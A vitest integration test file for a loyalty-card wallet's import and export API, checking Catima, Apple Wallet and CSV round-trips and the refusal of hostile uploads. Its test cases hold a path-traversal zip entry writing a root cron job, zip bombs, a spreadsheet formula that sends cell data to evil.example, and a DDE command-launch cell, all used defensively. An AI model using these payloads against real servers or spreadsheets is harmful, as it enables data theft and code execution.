import { readFileSync } from "node:fs";
import http from "node:http";
import path from "node:path";
import { strFromU8, strToU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { uniqueClientAddress } from "@/tests/api/client";
import { gtinCheckDigit } from "@/lib/scan/check-digit";
import type { Card, ImportCardsResponse } from "@/lib/scan/schemas";
import { OWN_SERVER_TIMEOUT_MS, startServer, type RunningServer } from "@/tests/support/server";
import { pngOf } from "@/tests/support/images";
import { catimaFixture, deflatedZeros, patchDirectory, zipOf, zipOfDeflated } from "@/tests/support/zip-files";
import { unique } from "@/tests/support/factories";

// Importing and exporting the wallet (docs/import-export.md) over HTTP, on a
// server of its own so an export holds exactly the cards these tests made,
// and the hostile files and the stranger's limits of
// docs/decisions/007-wallet-import-export.md. The server trusts a proxy on
// loopback: X-Forwarded-For names an anonymous client, none is this machine.

const ANON_LIMIT = 10;
let server: RunningServer;
beforeAll(async () => {
  server = await startServer({ TRUSTED_PROXIES: "loopback", ANON_RATE_LIMIT: String(ANON_LIMIT) });
});
afterAll(() => server.stop());

const ean13 = (n: number) => {
  const data = `560${String(n).padStart(9, "0")}`;
  return `${data}${gtinCheckDigit(data)}`;
};

type Answer<T> = { status: number; data: T; headers: Headers };

async function call<T = Record<string, unknown>>(path: string, init: RequestInit = {}): Promise<Answer<T>> {
  // English messages, as the assertions read them.
  const response = await fetch(`${server.url}${path}`, {
    ...init,
    headers: { "accept-language": "en", ...(init.headers as Record<string, string> | undefined) },
  });
  const text = await response.text();
  let data: unknown = null;
  try {
    data = JSON.parse(text);
  } catch {
    data = null;
  }
  return { status: response.status, data: data as T, headers: response.headers };
}

function importFile(
  file: Uint8Array | string,
  {
    name = "cards.csv",
    person,
    dryRun = false,
    headers = {},
  }: { name?: string; person?: string; dryRun?: boolean; headers?: Record<string, string> } = {},
) {
  const form = new FormData();
  form.set("file", new Blob([typeof file === "string" ? file : new Uint8Array(file)]), name);
  if (person !== undefined) form.set("person", person);
  return call<ImportCardsResponse>(`/base-scan/api/import${dryRun ? "?dry_run=1" : ""}`, {
    method: "POST",
    body: form,
    headers,
  });
}

/** A raw request's answer, read whole, then its connection closed: its status and error code. */
async function answerOf(request: http.ClientRequest, response: http.IncomingMessage) {
  let text = "";
  for await (const chunk of response) text += (chunk as Buffer).toString();
  request.destroy();
  return { status: response.statusCode ?? 0, code: (JSON.parse(text) as { error?: { code?: unknown } }).error?.code };
}

/**
 * A multipart upload of unknown length (chunked), written 256 KiB at a time
 * until the server answers or `limit` bytes are sent, on a connection of its
 * own: its status, error code, and how much had been written when the answer
 * came. Node's client hears an answer that comes before the body ends, and
 * writing stops then; what the server reads after its answer is not counted.
 */
function streamUntilAnswered(limit: number): Promise<{ status: number; code: unknown; sentWhenAnswered: number }> {
  const boundary = "labs-boundary";
  return new Promise((resolve, reject) => {
    let sent = 0;
    let answered = false;
    const request = http.request(`${server.url}/base-scan/api/import`, {
      method: "POST",
      headers: { "content-type": `multipart/form-data; boundary=${boundary}`, "transfer-encoding": "chunked" },
      agent: false,
    });
    request.on("response", (response) => {
      answered = true;
      const sentWhenAnswered = sent;
      void answerOf(request, response).then((answer) => resolve({ ...answer, sentWhenAnswered }), reject);
    });
    // The server closes the connection once it has answered: a write after that fails, and that is no failure here.
    request.on("error", (error) => (answered ? undefined : reject(error)));
    request.write(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n\r\n`);
    const chunk = Buffer.alloc(256 * 1024, 65);
    const writeMore = () => {
      while (!answered && sent < limit) {
        sent += chunk.byteLength;
        if (!request.write(chunk)) return void request.once("drain", writeMore);
      }
      // All sent and no answer yet: the body ends, and the answer counts everything.
      if (!answered) request.end();
    };
    writeMore();
  });
}

/** A request that announces `headers` and sends `start`, on a connection of its own: its status and error code. */
function upload(headers: Record<string, string>, start: string): Promise<{ status: number; code: unknown }> {
  return new Promise((resolve, reject) => {
    const request = http.request(`${server.url}/base-scan/api/import`, { method: "POST", headers, agent: false });
    request.on("response", (response) => void answerOf(request, response).then(resolve, reject));
    request.on("error", reject);
    request.write(start);
  });
}

async function allCards(): Promise<Card[]> {
  const cards: Card[] = [];
  let cursor: string | null = null;
  do {
    const page: Answer<{ cards: Card[]; next: string | null }> = await call(
      `/base-scan/api/cards?limit=500${cursor ? `&cursor=${cursor}` : ""}`,
    );
    expect(page.status).toBe(200);
    cards.push(...page.data.cards);
    cursor = page.data.next;
  } while (cursor);
  return cards;
}

const cardsOf = async (person: string) => (await allCards()).filter((card) => card.person_name === person);

const comparable = (card: Card) => ({
  store_name: card.store_name,
  person_name: card.person_name,
  card_value: card.card_value,
  card_format: card.card_format,
  label: card.label,
  note: card.note,
  printed_number: card.printed_number,
  balance: card.balance,
  balance_currency: card.balance_currency,
});

async function putPhoto(id: number, side: string, bytes: Uint8Array): Promise<void> {
  const { status } = await call(`/base-scan/api/cards/${id}/photos/${side}`, {
    method: "PUT",
    body: new Uint8Array(bytes),
  });
  expect(status).toBe(200);
}

/** Every card's pictures, by its store, person and number (what an import keeps of a card), as bytes. */
async function picturesByCard(): Promise<Map<string, Record<string, Uint8Array>>> {
  const pictures = new Map<string, Record<string, Uint8Array>>();
  for (const card of await allCards()) {
    const sides: Record<string, Uint8Array> = {};
    for (const [side, url] of Object.entries(card.photos)) if (url !== null) sides[side] = (await photoBytes(url))!;
    if (Object.keys(sides).length > 0) pictures.set(`${card.store_name}/${card.person_name}/${card.card_value}`, sides);
  }
  return pictures;
}

async function deleteCard(card: Card): Promise<void> {
  const { status } = await call(`/base-scan/api/cards/${card.id}/delete`, { method: "POST" });
  expect(status).toBe(200);
}

async function addCard(store: string, person: string, value: string, format: string, label = ""): Promise<Card> {
  const created = await call<{ store_id: number }>("/base-scan/api/stores", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ name: store }),
  });
  const { status, data } = await call<{ card: Card }>(`/base-scan/api/stores/${created.data.store_id}/cards`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ card_value: value, card_format: format, label, person_name: person }),
  });
  expect(status).toBe(200);
  return data.card;
}

// The Catima fixture (tests/fixtures/wallets, in Catima's layout), as cards: the barcode holds `barcodeid` where there is
// one (the printed `cardid` kept beside it), a card without a barcode type has
// none, and the note, balance and its currency come as Catima keeps them.
const CATIMA_CARDS: [number, string, string, string | null, string, string | null, string | null, string | null][] = [
  [9, "Farmácia Central", "FC778812", null, "", null, null, null],
  [10, "Cartão Jovem", "990011", "qr_code", "Desconto de estudante", "7788", "100.00", "USD"],
  [11, "Queijaria", "Queijo São Jorge", "aztec", "", null, null, null],
  [12, "Loja de Roupa", "b", null, "Nota sobre a loja", null, null, null],
  [13, "Armazéns do Chiado", "B", null, "", null, null, null],
  [
    14,
    "Mercearia",
    "mrc",
    null,
    "Nota de várias linhas sobre a mercearia\n\ncom uma linha em branco",
    null,
    "150.00",
    "points",
  ],
  [17, "Restaurante", "65432", "code_128", "Nota sobre o restaurante", "12345678", null, null],
  [18, "Sapataria", "-4242", "aztec", "", "c", "12.50", "EUR"],
];
const catimaCards = (person: string) =>
  CATIMA_CARDS.map(([line, store_name, card_value, card_format, note, printed_number, balance, balance_currency]) => ({
    line,
    store_name,
    person_name: person,
    card_value,
    card_format,
    label: "",
    note,
    printed_number,
    balance,
    balance_currency,
  }));

// Catima names each card's pictures by its _id: Cartão Jovem (1) has both sides, Sapataria (6) its icon.
const FRONT = pngOf(60, 38, [220, 40, 40]);
const BACK = pngOf(60, 38, [40, 40, 220]);
const ICON = pngOf(16, 16, [20, 160, 20]);
const catimaZip = () =>
  zipOf({
    "catima.csv": catimaFixture("catima-v2.csv"),
    "card_1_front.png": FRONT,
    "card_1_back.png": BACK,
    "card_6_icon.png": ICON,
    // No card has _id 7: a picture of nobody's is passed over.
    "card_7_front.png": FRONT,
  });
const catimaPhotoNames = {
  "Cartão Jovem": { front: "card_1_front.png", back: "card_1_back.png", icon: null },
  Sapataria: { front: null, back: null, icon: "card_6_icon.png" },
} as Record<string, { front: string | null; back: string | null; icon: string | null }>;
const NO_PHOTOS = { front: null, back: null, icon: null };

async function photoBytes(url: string | null): Promise<Uint8Array | null> {
  if (url === null) return null;
  const response = await fetch(`${server.url}${url}`);
  expect(response.status).toBe(200);
  return new Uint8Array(await response.arrayBuffer());
}

describe("POST /base-scan/api/import, a Catima export", () => {
  it("previews every card of a Catima export in a dry run and writes nothing", async () => {
    const person = unique("Ana");
    const { status, data } = await importFile(catimaZip(), { name: "catima.zip", person, dryRun: true });
    expect(status).toBe(200);
    expect(data).toMatchObject({ ok: true, dry_run: true, add: catimaCards(person), duplicates: [], errors: [] });
    // A plan names each picture as the file does.
    expect(data.add.map((row) => row.photos)).toEqual(
      data.add.map((row) => catimaPhotoNames[row.store_name] ?? NO_PHOTOS),
    );
    expect(await cardsOf(person)).toEqual([]);
  });

  it("imports them all, then finds them all duplicates the second time", async () => {
    const person = unique("Ana");
    const first = await importFile(catimaZip(), { name: "catima.zip", person });
    expect(first.status).toBe(200);
    expect(first.data).toMatchObject({
      ok: true,
      dry_run: false,
      add: catimaCards(person),
      duplicates: [],
      errors: [],
    });
    const stored = await cardsOf(person);
    expect(stored.map(comparable).sort(byStore)).toEqual(
      catimaCards(person)
        .map((card) => comparable(card as unknown as Card))
        .sort(byStore),
    );
    // Each picture is kept with its card, byte for byte, and the answer gives its address.
    const jovem = stored.find((card) => card.store_name === "Cartão Jovem")!;
    expect(first.data.add.find((row) => row.store_name === "Cartão Jovem")?.photos).toEqual(jovem.photos);
    expect(await photoBytes(jovem.photos.front)).toEqual(FRONT);
    expect(await photoBytes(jovem.photos.back)).toEqual(BACK);
    expect(jovem.photos.icon).toBeNull();
    const sapataria = stored.find((card) => card.store_name === "Sapataria")!;
    expect(await photoBytes(sapataria.photos.icon)).toEqual(ICON);
    expect(stored.filter((card) => Object.values(card.photos).some((url) => url !== null))).toHaveLength(2);

    const again = await importFile(catimaZip(), { name: "catima.zip", person });
    expect(again.data).toMatchObject({ add: [], duplicates: catimaCards(person), errors: [] });
    expect(await cardsOf(person)).toHaveLength(8);
  });

  it("reads the bare catima.csv, and version 1", async () => {
    const person = unique("Rui");
    const bare = await importFile(catimaFixture("catima-v2.csv"), { name: "catima.csv", person, dryRun: true });
    expect(bare.data.add).toMatchObject(catimaCards(person));
    const v1 = await importFile(catimaFixture("catima-v1-starred.csv"), { person, dryRun: true });
    expect(v1.data.add).toMatchObject([
      {
        line: 2,
        store_name: "Papelaria",
        person_name: person,
        card_value: "24680",
        card_format: "aztec",
        label: "",
        note: "caderno",
        starred: true,
      },
    ]);
  });

  it("lists every card as an error when no one is named, and writes none", async () => {
    const { status, data } = await importFile(catimaZip(), { name: "catima.zip" });
    expect(status).toBe(200);
    expect(data.add).toEqual([]);
    expect(data.errors).toHaveLength(8);
    expect(new Set(data.errors.map((row) => row.reason))).toEqual(
      new Set(["No person: choose whose cards these are."]),
    );
  });
});

const byStore = (a: { store_name: string; card_value: string }, b: { store_name: string; card_value: string }) =>
  a.store_name.localeCompare(b.store_name) || a.card_value.localeCompare(b.card_value);

describe("POST /base-scan/api/import, the other wallets (tests/fixtures/wallets)", () => {
  const wallet = (name: string) => new Uint8Array(readFileSync(path.join("tests/fixtures/wallets", name)));

  it("imports an Apple Wallet pass with its balance, expiry, colour and printed number", async () => {
    const person = unique("Ana");
    // Its sharpest logo becomes the card's icon, as Catima takes a pass's.
    const logo = pngOf(320, 100, [122, 28, 48]);
    const pass = zipOf({
      "pass.json": wallet("store-card.pass.json"),
      "logo.png": pngOf(160, 50, [0, 0, 0]),
      "logo@2x.png": logo,
      "strip.png": pngOf(10, 10, [0, 0, 0]),
    });
    const { status, data } = await importFile(pass, { name: "cartao.pkpass", person });
    expect(status).toBe(200);
    expect(data).toMatchObject({ add: [{ line: 1, store_name: "Livraria Bertrand" }], errors: [] });
    const [card] = await cardsOf(person);
    expect(card!.photos).toMatchObject({ front: null, back: null });
    expect(await photoBytes(card!.photos.icon)).toEqual(logo);
    expect(card).toMatchObject({
      store_name: "Livraria Bertrand",
      card_value: "9912004500731",
      card_format: "pdf417",
      label: "Cartão oferta",
      printed_number: "9912 0045 0073 1",
      balance: "37.50",
      balance_currency: "EUR",
      header_color: "#7a1c30",
      barcode_encoding: "ISO-8859-1",
      expiry: "2027-06-30T22:59:00.000Z",
    });
  });

  it("imports Voucher Vault's vouchers and FidMe's cards, reporting what each could not give", async () => {
    const person = unique("Rui");
    const vouchers = await importFile(wallet("voucher-vault.json"), { name: "vouchervault.json", person });
    expect(vouchers.status).toBe(200);
    expect(vouchers.data.add.map((row) => [row.store_name, row.card_format, row.balance])).toEqual([
      ["Fnac", "code_128", "25.00"],
      ["Worten", "qr_code", "10.50"],
      ["Padaria Lusitana", null, null],
    ]);
    expect(vouchers.data.errors.map((row) => row.line)).toEqual([4, 5]);

    const fidme = zipOf({ "loyalty_programs.csv": wallet("fidme-loyalty_programs.csv") });
    const cards = await importFile(fidme, { name: "fidme.zip", person });
    expect(cards.status).toBe(200);
    expect(cards.data.add.map((row) => [row.store_name, row.card_value, row.card_format, row.label])).toEqual([
      ["Pingo Doce", "2900123456785", "ean_13", "Poupa Mais"],
      ["Continente", "4012345678901", "ean_13", "Cartão Continente"],
    ]);
    expect(cards.data.errors).toMatchObject([{ line: 4, store_name: "IKEA", card_value: null }]);
    expect(await cardsOf(person)).toHaveLength(5);
  });
});

describe("POST /base-scan/api/import, the wallet CSV", () => {
  it("adds, skips duplicates (in the wallet and in the file) and explains what it cannot read", async () => {
    const person = unique("Marta");
    const store = unique("Lidl");
    await addCard(store, person, ean13(1), "ean_13");
    const csv = [
      "store,number,format,label,person",
      `${store.toUpperCase()},${ean13(1)},EAN_13,,${person}`, // already in the wallet: the store's name in another case
      `${store},${ean13(2)},,Família,${person}`, // the format is guessed: EAN-13
      `${store},${ean13(2)},ean13,,${person}`, // the same card twice in the file
      `${store},5601234567891,EAN-13,,${person}`, // a wrong check digit
      `${store},QR-77,qr,,`, // no person in the row: the field's
      `,123,,,${person}`, // no store
    ].join("\r\n");
    const { status, data } = await importFile(csv, { person });
    expect(status).toBe(200);
    const row = (line: number, card_value: string, card_format: string, label = "") => ({
      line,
      store_name: store,
      person_name: person,
      card_value,
      card_format,
      label,
    });
    expect(data).toMatchObject({
      ok: true,
      dry_run: false,
      add: [row(3, ean13(2), "ean_13", "Família"), row(6, "QR-77", "qr_code")],
      duplicates: [{ ...row(2, ean13(1), "ean_13"), store_name: store.toUpperCase() }, row(4, ean13(2), "ean_13")],
      errors: [
        {
          line: 5,
          store_name: store,
          card_value: "5601234567891",
          reason: "This number cannot be drawn as EAN-13: Incorrect EAN-13 check digit provided.",
        },
        { line: 7, store_name: null, card_value: "123", reason: "The store must not be empty." },
      ],
    });
    const stored = await cardsOf(person);
    expect(stored.map((card) => card.card_value).sort()).toEqual([ean13(1), ean13(2), "QR-77"].sort());
    // One store, found by its name in any case.
    expect(new Set(stored.map((card) => card.store_id)).size).toBe(1);
  });

  it("keeps each card as its barcode is printed, and finds it again written another way", async () => {
    // docs/decisions/027-one-reading-one-value.md
    const person = unique("Inês");
    const store = unique("Biblioteca");
    const data = String(Date.now()).slice(-9);
    const first = await importFile(
      // Codabar as Catima and zxing's tests write it; a UPC-E as zxing-wasm reads it.
      ["store,number,format", `${store},${data},codabar`, `${store},0050968000093,upc_e`].join("\r\n"),
      { person },
    );
    expect(first.status).toBe(200);
    expect(first.data.add.map((row) => [row.card_value, row.card_format])).toEqual([
      [`A${data}A`, "codabar"],
      ["05096893", "upc_e"],
    ]);
    expect((await cardsOf(person)).map((card) => card.card_value).sort()).toEqual([`A${data}A`, "05096893"].sort());

    // The same two cards, as a scanner and Catima write them: already in the wallet.
    const again = await importFile(
      ["store,number,format", `${store},A${data}A,CODABAR`, `${store},05096893,UPC_E`].join("\r\n"),
      { person },
    );
    expect(again.data).toMatchObject({ add: [], errors: [] });
    expect(again.data.duplicates).toHaveLength(2);
  });
});

describe("export, and import back", () => {
  it("round-trips the whole wallet through a Catima export: who owns each card comes back from its group", async () => {
    const ana = unique("Ana");
    const rui = unique("Rui");
    await addCard(unique("Continente"), ana, ean13(3), "ean_13", "Família");
    await addCard(unique("Pingo Doce"), rui, "CLUB-000-4417", "code_128");
    await addCard(unique("Worten"), rui, "https://club.example.pt/c/8842?n=João", "qr_code", '=HYPERLINK("x")');
    const ikea = await addCard(unique("IKEA"), ana, "-5317", "aztec");
    await addCard(unique("Fnac"), ana, "40156", "codabar", "@home");
    const continente = (await allCards()).find((card) => card.card_value === ean13(3) && card.person_name === ana)!;
    await putPhoto(continente.id, "front", FRONT);
    await putPhoto(continente.id, "back", BACK);
    await putPhoto(ikea.id, "icon", ICON);
    const before = (await allCards()).map(comparable).sort(byStore);
    const picturesBefore = await picturesByCard();

    const exported = await fetch(`${server.url}/base-scan/api/export?format=catima`);
    expect(exported.status).toBe(200);
    expect(exported.headers.get("content-type")).toBe("application/zip");
    expect(exported.headers.get("content-disposition")).toMatch(/^attachment; filename="labs-wallet-.*-catima\.zip"$/);
    const zip = new Uint8Array(await exported.arrayBuffer());
    const entries = unzipSync(zip);
    expect(Object.keys(entries)[0]).toBe("catima.csv");
    // Every picture, named as Catima's exporter names it.
    expect(entries[`card_${continente.id}_front.png`]).toEqual(FRONT);
    expect(entries[`card_${continente.id}_back.png`]).toEqual(BACK);
    expect(entries[`card_${ikea.id}_icon.png`]).toEqual(ICON);
    expect(Object.keys(entries).length - 1).toBe(
      [...picturesBefore.values()].reduce((sum, sides) => sum + Object.keys(sides).length, 0),
    );
    const csv = strFromU8(entries["catima.csv"]!);
    expect(csv).toContain(`'=HYPERLINK(""x"")`);
    expect(csv).toContain(",'@home\r\n");

    for (const card of await allCards()) await deleteCard(card);
    expect(await allCards()).toEqual([]);

    // No person named: each card's one group is its person.
    const { status, data } = await importFile(zip, { name: "catima.zip" });
    expect(status).toBe(200);
    expect(data.errors).toEqual([]);
    expect(data.add).toHaveLength(before.length);
    expect((await allCards()).map(comparable).sort(byStore)).toEqual(before);
    expect(await picturesByCard()).toEqual(picturesBefore);
  });

  it("writes Catima's layout version 2 exactly: sections, columns, type names, links", async () => {
    const person = unique("Zé");
    await addCard(unique("Auchan"), person, ean13(4), "ean_13", "Cartão");
    const zip = new Uint8Array(await (await fetch(`${server.url}/base-scan/api/export?format=catima`)).arrayBuffer());
    const csv = strFromU8(unzipSync(zip)["catima.csv"]!);
    expect(csv.endsWith("\r\n")).toBe(true);
    const [version, groups, cards, links, ...rest] = csv.slice(0, -2).split("\r\n\r\n");
    expect(rest).toEqual([]);
    expect(version).toBe("2");
    const groupNames = groups!.split("\r\n");
    expect(groupNames[0]).toBe("_id");
    expect(groupNames).toContain(person);
    const cardLines = cards!.split("\r\n");
    expect(cardLines[0]).toBe(
      "_id,store,note,validfrom,expiry,balance,balancetype,cardid,barcodeid,barcodetype,barcodeencoding,headercolor,starstatus,lastused,archive,labs_label",
    );
    const mine = cardLines.find((line) => line.includes(ean13(4)))!;
    expect(mine).toMatch(new RegExp(`^\\d+,Auchan [0-9a-f]{8},,,,0,,${ean13(4)},,EAN_13,,,0,0,0,Cartão$`));
    const linkLines = links!.split("\r\n");
    expect(linkLines[0]).toBe("cardId,groupId");
    expect(linkLines).toContain(`${mine.split(",")[0]},${person}`);
    // Every card is in exactly one listed group.
    const ids = cardLines.slice(1).map((line) => line.split(",")[0]);
    const linked = linkLines.slice(1).map((line) => line.split(","));
    expect(linked.map(([id]) => id).sort()).toEqual([...ids].sort());
    for (const [, group] of linked) expect(groupNames).toContain(group);
  });

  it("round-trips through the CSV export, with formula cells neutralised", async () => {
    const person = unique("Inês");
    await addCard(unique("Decathlon"), person, "DEC-1", "code_39", "+cmd|' /C calc'!A0");
    const before = (await cardsOf(person)).map(comparable);

    const exported = await fetch(`${server.url}/base-scan/api/export?format=csv`);
    expect(exported.status).toBe(200);
    expect(exported.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const bytes = new Uint8Array(await exported.arrayBuffer());
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(text.startsWith("\uFEFFstore,number,format,label,person,note,expiry,balance,currency\r\n")).toBe(true);
    expect(text).toContain(`,DEC-1,code_39,'+cmd|' /C calc'!A0,${person},,,,\r\n`);

    for (const card of await cardsOf(person)) await deleteCard(card);
    const { data } = await importFile(bytes, { name: "wallet.csv" });
    expect(data.errors).toEqual([]);
    expect(await cardsOf(person).then((cards) => cards.map(comparable))).toEqual(before);
    // Everything else was already there.
    expect(data.add).toHaveLength(1);
  });

  it("refuses an unknown export format", async () => {
    const { status, data } = await call("/base-scan/api/export?format=xlsx");
    expect(status).toBe(400);
    expect(data).toMatchObject({ ok: false, error: { code: "validation_failed" } });
  });
});

describe("a Catima export's pictures", () => {
  it("skips, with its reason, a card whose picture is no image or is over 4 MiB, and imports the rest", async () => {
    const person = unique("Ana");
    const zip = zipOf({
      "catima.csv": catimaFixture("catima-v2.csv"),
      "card_1_front.png": strToU8("<svg xmlns='http://www.w3.org/2000/svg'/>"),
      "card_6_back.png": new Uint8Array(5 * 1024 * 1024),
      "card_9_front.png": FRONT,
    });
    const { status, data } = await importFile(zip, { name: "catima.zip", person });
    expect(status).toBe(200);
    expect(data.errors).toEqual([
      expect.objectContaining({
        store_name: "Cartão Jovem",
        reason: "Its picture card_1_front.png is not a PNG, JPEG or WebP image.",
      }),
      expect.objectContaining({
        store_name: "Sapataria",
        reason: "Its picture card_6_back.png is larger than 4 MiB, the most a card's photo may be.",
      }),
    ]);
    expect(data.add).toHaveLength(6);
    const queijaria = (await cardsOf(person)).find((card) => card.store_name === "Queijaria")!;
    expect(await photoBytes(queijaria.photos.front)).toEqual(FRONT);
  });

  it("refuses whole a zip whose pictures inflate past 40 MiB in all, and writes nothing", async () => {
    const person = unique("Ana");
    const fourMiB = new Uint8Array(4 * 1024 * 1024);
    const pictures = Object.fromEntries(
      [1, 2, 3, 4, 5, 6, 8, 9].flatMap((id) => [
        [`card_${id}_front.png`, fourMiB],
        [`card_${id}_back.png`, fourMiB],
      ]),
    );
    const zip = zipOf({ "catima.csv": catimaFixture("catima-v2.csv"), ...pictures });
    expect(zip.byteLength).toBeLessThan(1024 * 1024);
    const { status, data } = await importFile(zip, { name: "catima.zip", person });
    expect(status).toBe(413);
    expect(data).toMatchObject({
      ok: false,
      error: { message: expect.stringContaining("more than 40 MiB") },
    });
    expect(await cardsOf(person)).toEqual([]);
  });
});

describe("hostile files are refused whole, and nothing is written", () => {
  const person = unique("Target");
  const afterwards = async () => expect(await cardsOf(person)).toEqual([]);

  it("answers 413 for a file over 20 MiB, declared or streamed, before reading it", async () => {
    // 200 MiB announced, a few bytes sent: the answer cannot wait for the body.
    const declared = await upload(
      { "content-type": "multipart/form-data; boundary=x", "content-length": String(200 * 1024 * 1024) },
      "--x\r\n",
    );
    expect(declared).toMatchObject({ status: 413, code: "payload_too_large" });

    // No Content-Length: counted while it streams, and answered long before 40 MiB.
    const streamed = await streamUntilAnswered(40 * 1024 * 1024);
    expect(streamed).toMatchObject({ status: 413, code: "payload_too_large" });
    expect(streamed.sentWhenAnswered).toBeLessThan(40 * 1024 * 1024);
    await afterwards();
  });

  it.each([
    [
      "a zip bomb",
      () => zipOf({ "catima.csv": new Uint8Array(50 * 1024 * 1024) }),
      413,
      "payload_too_large",
      /catima\.csv inside the zip is larger than/,
    ],
    [
      "a zip bomb that declares a small size",
      () => patchDirectory(zipOf({ "catima.csv": new Uint8Array(50 * 1024 * 1024) }), "catima.csv", { size: 900 }),
      413,
      "payload_too_large",
      /inflates to more than the zip says/,
    ],
    [
      "a path traversal name",
      () => zipOf({ "catima.csv": catimaFixture("catima-v2.csv"), "../../etc/cron.d/x": "* * * * * root sh" }),
      400,
      "validation_failed",
      /points outside it/,
    ],
    [
      "a password-protected Catima export",
      () =>
        patchDirectory(zipOf({ "catima.csv": catimaFixture("catima-v2.csv") }), "catima.csv", { method: 99, flags: 1 }),
      400,
      "validation_failed",
      /protected by a password\. Export again from Catima without a password\./,
    ],
    [
      "a formula cell",
      () => `store,number\nLidl,${ean13(5)}\n"=HYPERLINK(""http://evil.example/?""&A1,""Win"")",1\n`,
      400,
      "validation_failed",
      /Line 3, column store: .* is a spreadsheet formula/,
    ],
    ["wrong columns", () => "name,card,owner\nLidl,1,Ana\n", 400, "validation_failed", /columns Labs does not know/],
    [
      "a picture",
      () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0xfe]),
      415,
      "unsupported_media_type",
      /not a wallet export Labs reads/,
    ],
  ])("refuses %s", async (_name, make, status, code, message) => {
    const { status: answered, data } = await importFile(make(), { name: "upload", person });
    expect(answered).toBe(status);
    expect(data).toMatchObject({ ok: false, error: { code, message: expect.stringMatching(message) } });
    await afterwards();
  });

  it("takes only multipart with one file in the field file", async () => {
    const json = await call("/base-scan/api/import", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ file: "x" }),
    });
    expect(json.status).toBe(415);

    const none = new FormData();
    none.set("person", person);
    expect((await call("/base-scan/api/import", { method: "POST", body: none })).data).toMatchObject({
      error: { code: "validation_failed", issues: [{ path: "file" }] },
    });

    const wrongField = new FormData();
    wrongField.set("attachments", new Blob(["store,number\n"]), "a.csv");
    expect((await call("/base-scan/api/import", { method: "POST", body: wrongField })).status).toBe(400);

    const longName = await importFile(`store,number\nLidl,${ean13(8)}\n`, { person: "x".repeat(121) });
    expect(longName.status).toBe(400);
    expect(longName.data).toMatchObject({
      error: { code: "validation_failed", issues: [{ path: "person", message: "must be at most 120 characters" }] },
    });

    const two = new FormData();
    two.append("file", new Blob(["store,number\n"]), "a.csv");
    two.append("file", new Blob(["store,number\n"]), "b.csv");
    expect((await call("/base-scan/api/import", { method: "POST", body: two })).status).toBe(413);
  });

  it("refuses a cross-site upload", async () => {
    const { status } = await importFile(`store,number\nLidl,${ean13(6)}\n`, {
      person,
      headers: { origin: "https://evil.example", "sec-fetch-site": "cross-site" },
    });
    expect(status).toBe(403);
    await afterwards();
  });
});

describe("a stranger's import (docs/decisions/007-wallet-import-export.md)", () => {
  const csvOf = (person: string, count: number, from = 100) =>
    [
      "store,number,person",
      ...Array.from({ length: count }, (_, i) => `Stranger Mart,${ean13(from + i)},${person}`),
    ].join("\n");

  it(`holds at most ANON_RATE_LIMIT (${ANON_LIMIT}) cards per file, even in a dry run`, async () => {
    const person = unique("Stranger");
    const client = { "x-forwarded-for": uniqueClientAddress() };
    for (const dryRun of [true, false]) {
      const { status, data } = await importFile(csvOf(person, ANON_LIMIT + 1), { dryRun, headers: client });
      expect(status).toBe(413);
      expect(data).toMatchObject({
        error: { code: "payload_too_large", message: expect.stringMatching(/at most 10\. Pair this device/) },
      });
    }
    expect(await cardsOf(person)).toEqual([]);
  });

  it("reads a stranger's file only as far as their cards could go: ten rows a card", async () => {
    const client = { "x-forwarded-for": uniqueClientAddress() };
    // Empty lines hold no card, but each is read: a 2 MiB file of them is a million.
    const padded = `store,number\n${"\n".repeat(ANON_LIMIT * 10)}`;
    const { status, data } = await importFile(padded, { dryRun: true, headers: client });
    expect(status).toBe(413);
    expect(data).toMatchObject({
      error: {
        code: "payload_too_large",
        message: expect.stringMatching(/more than 100 rows; from a device not paired with the household/),
      },
    });
    // The household's files may be longer.
    expect((await importFile(padded, { dryRun: true })).status).toBe(200);
  });

  it("pays one write per card added: a full file empties the bucket", async () => {
    const person = unique("Stranger");
    const client = { "x-forwarded-for": uniqueClientAddress() };
    const { status, data } = await importFile(csvOf(person, ANON_LIMIT), { headers: client });
    expect(status).toBe(200);
    expect(data.add).toHaveLength(ANON_LIMIT);
    const next = await call("/base-scan/api/stores", {
      method: "POST",
      headers: { ...client, "content-type": "application/json" },
      body: JSON.stringify({ name: "One more" }),
    });
    expect(next.status).toBe(429);
  });

  it("refuses an import the bucket cannot pay for whole, writes none of it, and still takes the next scan", async () => {
    const person = unique("Stranger");
    const client = { "x-forwarded-for": uniqueClientAddress() };
    // Three writes spent: seven tokens left, and the import's request takes one of them.
    for (let i = 0; i < 3; i++) {
      const spent = await call("/base-scan/api/stores", {
        method: "POST",
        headers: { ...client, "content-type": "application/json" },
        body: JSON.stringify({ name: unique("Spent") }),
      });
      expect(spent.status).toBe(200);
    }
    const { status, data, headers } = await importFile(csvOf(person, ANON_LIMIT), { headers: client });
    expect(status).toBe(429);
    expect(data).toMatchObject({ ok: false, error: { code: "rate_limited" } });
    expect(Number(headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
    expect(await cardsOf(person)).toEqual([]);

    const scan = await call("/base-scan/api/scan", {
      method: "POST",
      headers: { ...client, "content-type": "application/json" },
      body: JSON.stringify({ value: ean13(7) }),
    });
    expect(scan.status).toBe(200);
  });

  it("lets the household (this machine) import more than a stranger may", async () => {
    const person = unique("Household");
    const { status, data } = await importFile(csvOf(person, 120, 1000));
    expect(status).toBe(200);
    expect(data.add).toHaveLength(120);
  });
});

describe("hostile imports do not hold the server (docs/decisions/007-wallet-import-export.md)", () => {
  const MIB = 1024 * 1024;
  /** A Catima export of 2 MiB: one card, over and over, far more than an import may hold. */
  const endlessCatima = () => {
    const row = "1,Lidl,5601234567890\r\n";
    const head = "2\r\n\r\n_id\r\n\r\n_id,store,cardid\r\n";
    return zipOf({ "catima.csv": head + row.repeat(Math.floor((2 * MIB - head.length) / row.length)) });
  };
  const HOSTILE: [string, () => Uint8Array][] = [
    // What the zip says is 100 bytes inflates to 48 MiB (the same in 2 MiB of upload inflates to 2 GiB).
